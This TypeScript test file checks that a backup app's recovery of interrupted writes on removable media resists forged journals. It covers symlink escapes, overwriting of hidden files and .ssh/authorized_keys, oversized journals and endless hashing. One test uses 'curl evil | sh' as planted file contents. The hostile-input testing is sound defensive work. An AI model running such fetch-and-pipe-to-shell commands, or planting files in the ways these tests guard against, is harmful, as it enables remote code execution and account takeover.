/** Anyone who can write to a medium can write a journal there: recovery must not touch anything outside of its folder. */
import { createHash } from 'node:crypto';
import {
  lutimes,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rm,
  symlink,
  truncate,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { recoverFolder, removeLeftovers } from '../../../electron/media/index.ts';
import { journalText } from '../../../electron/media/journal.ts';
import { rawFiles } from '../../../electron/media/raw-files.ts';

/** A process of another computer. */
const ID = '00000000-1-1-000000000000';
const STAGED = `.new.${ID}-0.orgca-partial`;
const ASIDE = `.new.${ID}-1.orgca-replaced`;
const PLANTED = 'planted';
const UNFINISHED = { ok: false, failure: { code: 'MEDIA-UNFINISHED' } };

let root: string;
/** The folder of the medium, and one that is not on it. */
let medium: string;
let home: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'orgca-forged-'));
  [medium, home] = [join(root, 'medium'), join(root, 'home')] as const;
  for (const made of [medium, home]) await mkdir(made);
  await writeFile(join(home, 'known'), 'known');
  await symlink(home, join(medium, 'link'));
});
afterEach(() => rm(root, { recursive: true }));

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex').toUpperCase();
const digest = (contents: string) => ({ sha256: sha256(contents), sizeBytes: contents.length });
const entry = (name: string, contents: string, more: object = {}) => ({
  ...{ name, staged: STAGED, aside: ASIDE },
  ...digest(contents),
  ...more,
});

const second = (name: string, contents: string) =>
  entry(name, contents, { staged: STAGED.replace('-0.', '-2.'), aside: ASIDE.replace('-1.', '-3.') });

/** Writes the journal of a change that ended long ago. */
async function forge(...files: object[]): Promise<void> {
  const path = join(medium, `.orgca.${ID}.orgca-journal`);
  await writeFile(path, JSON.stringify({ format: 'orgca-backup-journal', formatVersion: 2, files }));
  await utimes(path, new Date(0), new Date(0));
}

const outside = async (): Promise<string[]> =>
  Promise.all(
    (await readdir(home)).sort().map(async (name) => `${name}: ${await readFile(join(home, name), 'utf8')}`),
  );

it.each([
  ['a new file', entry('link/planted', PLANTED)],
  ['a file in place of another one', entry('link/known', PLANTED, { replaced: digest('known') })],
  [
    'a file in place of another one, its temporary files behind the link',
    entry('link/known', PLANTED, {
      replaced: digest('known'),
      staged: `link/${STAGED}`,
      aside: `link/${ASIDE}`,
    }),
  ],
])('plants nothing behind a link: %s', async (_what, file) => {
  await writeFile(join(medium, STAGED), PLANTED);
  await forge(file);
  const before = await outside();
  expect(await recoverFolder(medium)).toMatchObject(UNFINISHED);
  expect(await outside()).toEqual(before);
});

it('puts no old file back behind a link', async () => {
  await writeFile(join(medium, ASIDE), PLANTED);
  await forge(entry('link/planted', 'never there', { replaced: digest('known') }));
  expect(await recoverFolder(medium)).toMatchObject(UNFINISHED);
  expect(await outside()).toEqual(['known: known']);
});

it('removes no file behind a link, whose contents the attacker knows', async () => {
  await writeFile(join(medium, STAGED), PLANTED);
  await forge(entry('link/known', 'known'), second('other', 'never there'));
  expect(await recoverFolder(medium)).toMatchObject(UNFINISHED);
  expect(await outside()).toEqual(['known: known']);
});

describe('a journal beside files that its writer could not change', () => {
  const NEW = 'curl evil | sh';
  /** Everything below the medium. */
  const inside = async (): Promise<Record<string, string>> => {
    const files = (await readdir(medium, { recursive: true, withFileTypes: true })).filter((one) =>
      one.isFile(),
    );
    const paths = files.map(({ name, parentPath }) => join(parentPath, name));
    const read = await Promise.all(paths.map((path) => readFile(path, 'utf8')));
    return Object.fromEntries(paths.map((path, at) => [path, read[at]!]));
  };

  it.each([
    ['replaces no file whose contents it does not know', 'thesis.odt', { replaced: digest('a guess of it') }],
    ['replaces no file that it calls new', 'thesis.odt', {}],
    ['replaces no hidden file, even a known one', '.profile', { replaced: digest('mine') }],
    ['replaces nothing in a hidden folder', '.ssh/authorized_keys', { replaced: digest('mine') }],
  ])('%s', async (_what, name, more) => {
    const path = join(medium, name);
    const [staged, aside] = [STAGED, ASIDE].map((one) => join(dirname(name), one));
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, 'mine');
    await writeFile(join(medium, staged!), NEW);
    await forge(entry(name, NEW, { staged, aside, ...more }));
    await recoverFolder(medium);
    expect(await readFile(path, 'utf8')).toBe('mine');
  });

  it('puts back no other file than the old one', async () => {
    await writeFile(join(medium, 'thesis.odt'), PLANTED);
    await writeFile(join(medium, ASIDE), NEW);
    await forge(entry('thesis.odt', PLANTED, { replaced: digest('old') }), second('never', 'there'));
    const before = await inside();
    expect(await recoverFolder(medium)).toMatchObject(UNFINISHED);
    expect(await inside()).toEqual(before);
  });

  it('says nothing of files that have changed since the change ended', async () => {
    await writeFile(join(medium, 'ca.pfx'), 'changed since');
    await forge(entry('ca.pfx', NEW, { replaced: digest('old') }));
    expect(await recoverFolder(medium)).toEqual({ ok: true, value: [] });
    expect(await readdir(medium)).toEqual(['ca.pfx', 'link']);
  });

  it('says nothing of files that it names if no change has begun', async () => {
    await writeFile(join(medium, 'ca.pfx'), 'mine');
    await forge(entry('ca.pfx', 'mine'));
    expect(await recoverFolder(medium)).toEqual({ ok: true, value: [] });
  });

  it('is examined for a limited time: the folder is left as it is', async () => {
    await writeFile(join(medium, 'large'), '');
    await truncate(join(medium, 'large'), 8 * 2 ** 30);
    await writeFile(join(medium, STAGED), '');
    await forge(entry('large', NEW, { replaced: { sha256: sha256(''), sizeBytes: 8 * 2 ** 30 } }));
    const before = await readdir(medium);
    const started = Date.now();
    const signal = AbortSignal.timeout(50);
    expect(await recoverFolder(medium, { signal })).toMatchObject(UNFINISHED);
    expect(await removeLeftovers([medium], { signal })).toEqual([]);
    expect(Date.now() - started).toBeLessThan(2000);
    expect(await readdir(medium)).toEqual(before);
  });

  it('is refused if there are too many', async () => {
    for (let number = 0; number <= 16; number++)
      await writeFile(
        join(medium, `.orgca.00000000-1-1-${String(number).padStart(12, '0')}.orgca-journal`),
        '{}',
      );
    for (const name of await readdir(medium)) await lutimes(join(medium, name), new Date(0), new Date(0));
    expect(await recoverFolder(medium)).toMatchObject(UNFINISHED);
  });
});

describe('a journal that cannot be used', () => {
  const many = Array.from({ length: 5001 }, (_, at) =>
    entry(`n${String(at)}`, 'x', {
      staged: STAGED.replace('-0.', `-${String(2 * at)}.`),
      aside: ASIDE.replace('-1.', `-${String(2 * at + 1)}.`),
    }),
  );

  it.each([
    ['names one file twice', [entry('ca.pfx', 'new'), second('ca.pfx', 'new')]],
    ['names too many files', many],
    ['names too large files', [entry('ca.pfx', 'new'), { ...second('program', 'x'), sizeBytes: 2 ** 40 }]],
    ['is of another release', [{ ...entry('ca.pfx', 'new'), more: 1 }]],
    ['is too large', [entry('x'.repeat(5 * 1024 * 1024), 'new')]],
  ])('because it %s is kept with its files', async (_why, files) => {
    for (const name of [ASIDE, STAGED]) await writeFile(join(medium, name), 'key');
    await forge(...files);
    await keepsAll();
  });

  it('because it was damaged after an old file was set aside is kept with its files', async () => {
    await writeFile(join(medium, ASIDE), 'old');
    await forge(entry('ca.pfx', 'new', { replaced: digest('old') }));
    const [path] = (await readdir(medium)).filter((name) => name.endsWith('journal'));
    await truncate(join(medium, path!), 40);
    await utimes(join(medium, path!), new Date(0), new Date(0));
    await keepsAll();
  });

  it('is looked for above a file of its set', async () => {
    await mkdir(join(medium, 'program'));
    await writeFile(join(medium, 'program', ASIDE), 'old');
    await forge(
      entry('program/start', 'new', { aside: `program/${ASIDE}`, staged: `program/${STAGED}`, more: 1 }),
    );
    await keepsAll();
  });

  async function keepsAll(): Promise<void> {
    for (const name of (await readdir(medium, { recursive: true })).filter((one) => one.includes('.orgca-')))
      await utimes(join(medium, name), new Date(0), new Date(0));
    const before = (await readdir(medium, { recursive: true })).sort();
    expect(await recoverFolder(medium)).toMatchObject(UNFINISHED);
    expect(await removeLeftovers([medium, join(medium, 'program')])).toEqual([]);
    expect((await readdir(medium, { recursive: true })).sort()).toEqual(before);
  }
});

it('undoes an interrupted change of more than four GiB', async () => {
  await writeFile(join(medium, ASIDE), 'old');
  await writeFile(join(medium, STAGED), 'new');
  const program = second('program.zip', 'x');
  await forge(entry('ca.pfx', 'new', { replaced: digest('old') }), { ...program, sizeBytes: 5 * 2 ** 30 });
  expect(await recoverFolder(medium)).toMatchObject({ ok: true, value: [{ outcome: 'rolled-back' }] });
  expect(await readFile(join(medium, 'ca.pfx'), 'utf8')).toBe('old');
});

it('is not written if it could not be read again', () => {
  const file = (number: number, sizeBytes: number) => ({
    ...{ name: `f${String(number)}`, path: `/m/f${String(number)}`, sizeBytes, sha256: sha256('') },
    ...{ staged: `/m/s${String(number)}`, aside: `/m/a${String(number)}` },
    ...{ target: 'untouched' as const, old: 'in place' as const },
  });
  const files = Array.from({ length: 5001 }, (_, number) => file(number, 1));
  const refused = { ok: false, failure: { code: 'MEDIA-SET-TOO-LARGE' } };
  expect(journalText('/m', files.slice(1))).toMatchObject({ ok: true });
  expect(journalText('/m', files)).toMatchObject(refused);
  expect(journalText('/m', [file(0, 2 ** 36)])).toMatchObject(refused);
});

it.each([
  ['that is as large as the journal says', 2 ** 40],
  ['that is larger than the journal says', 7],
])('hashes no endless file %s', async (_how, sizeBytes) => {
  for (const name of ['large', STAGED]) {
    await writeFile(join(medium, name), '');
    await truncate(join(medium, name), 2 ** 40);
  }
  await forge(entry('large', PLANTED, { sizeBytes }));
  const opened: unknown[] = [];
  const fs: typeof rawFiles = {
    ...rawFiles,
    open: (path, ...more) => {
      opened.push(path);
      return /large|partial/.test(String(path)) ? Promise.reject(new Error()) : rawFiles.open(path, ...more);
    },
  };
  await recoverFolder(medium, { fs });
  expect(opened.filter((path) => /large|partial|replaced/.test(String(path)))).toEqual([]);
});
